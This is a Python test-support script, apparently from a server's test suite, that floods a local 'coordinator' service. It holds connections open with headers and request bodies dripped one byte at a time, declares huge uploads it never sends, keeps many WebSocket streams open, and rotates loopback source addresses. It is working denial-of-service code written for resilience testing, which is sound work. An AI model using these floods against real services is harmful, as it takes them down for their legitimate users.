"""Attacks that exhaust a coordinator: `python -m support.clients.floods URL`, with options as JSON on standard input.

Each attack is many tasks that hold one connection each, and open another a moment after it was closed. The program prints
the line `ready` when every task has tried once, and ends when standard input closes.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import resource
import sys
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from urllib.parse import urlsplit

HALF_OPEN = 1100
HALF_SENT = 200
STREAMS_PER_KEY = 50
UPLOADS = 100
PAUSE_SECONDS = 20.0
DRIP_SECONDS = 2.0
OPEN_SECONDS = 0.004
"""Time between two connections, so that the attack exhausts the coordinator and not the test's machine."""

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


class Flood:
    """All attacks on one coordinator. With `many`, each connection comes from a different address."""

    def __init__(self, url: str, keys: list[str], *, many: bool) -> None:
        server = urlsplit(url)
        self._host, self._port = server.hostname or "", server.port or 0
        self._keys = keys
        self._sources = self._addresses() if many else itertools.repeat("127.0.0.1")
        self._opening = asyncio.Lock()
        self._tried = 0

    @staticmethod
    def _addresses() -> Iterator[str]:
        return itertools.cycle(
            f"127.0.{third}.{fourth}" for third in range(1, 20) for fourth in range(1, 250)
        )

    async def run(self) -> None:
        """Attack until cancelled."""
        attacks: list[Attack] = [self._half_open] * HALF_OPEN
        attacks += [self._half_sent("")] * (HALF_SENT // 2)
        attacks += [self._half_sent(self._keys[0])] * (HALF_SENT // 2)
        attacks += [self._stream(key) for key in self._keys for _ in range(STREAMS_PER_KEY)]
        attacks += [self._upload(key) for key in itertools.islice(itertools.cycle(self._keys), UPLOADS)]
        async with asyncio.TaskGroup() as tasks:
            for attack in attacks:
                tasks.create_task(self._repeated(attack, len(attacks)))

    async def _repeated(self, attack: Attack, total: int) -> None:
        first = True
        while True:
            with suppress(OSError, EOFError):
                async with self._opening:
                    reader, writer = await asyncio.open_connection(
                        self._host, self._port, local_addr=(next(self._sources), 0)
                    )
                    begun = asyncio.ensure_future(attack(reader, writer))
                    await asyncio.sleep(OPEN_SECONDS)
                self._tried += first
                if first and self._tried == total:
                    sys.stdout.write("ready\n")
                    sys.stdout.flush()
                first = False
                try:
                    await begun
                finally:
                    writer.close()
            await asyncio.sleep(PAUSE_SECONDS)

    async def _half_open(self, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"GET /v1/health HTTP/1.1\r\nHost: localhost\r\nX-Filler: ")
        await self._drip(writer)

    def _half_sent(self, key: str) -> Attack:
        return self._sending("POST", "/v1/jobs", key, 100_000)

    def _upload(self, key: str) -> Attack:
        return self._sending("POST", "/v1/artifacts", key, 10 * 2**30)

    def _sending(self, method: str, path: str, key: str, size: int) -> Attack:
        head = (
            self._head(method, path, key)
            + f"Content-Type: application/json\r\nContent-Length: {size}\r\n\r\n"
        )

        async def send(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.write(f'{head}{{"type": "'.encode())
            await self._drip(writer)

        return send

    def _stream(self, key: str) -> Attack:
        upgrade = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        head = f"{self._head('GET', '/ws', key)}{upgrade}Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"

        async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.write(head.encode())
            while await reader.read(2**16):
                pass

        return listen

    @staticmethod
    def _head(method: str, path: str, key: str) -> str:
        authorization = f"Authorization: Bearer {key}\r\n" if key else ""
        return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{authorization}"

    @staticmethod
    async def _drip(writer: asyncio.StreamWriter) -> None:
        while not writer.is_closing():
            await asyncio.sleep(DRIP_SECONDS)
            writer.write(b"x")
            await writer.drain()


async def main() -> None:
    """Attack until standard input ends."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    request = json.loads(sys.stdin.readline())
    flood = asyncio.create_task(Flood(sys.argv[1], request["keys"], many=request["many"]).run())
    await asyncio.to_thread(sys.stdin.readline)
    flood.cancel()
    with suppress(asyncio.CancelledError):
        await flood


if __name__ == "__main__":
    asyncio.run(main())
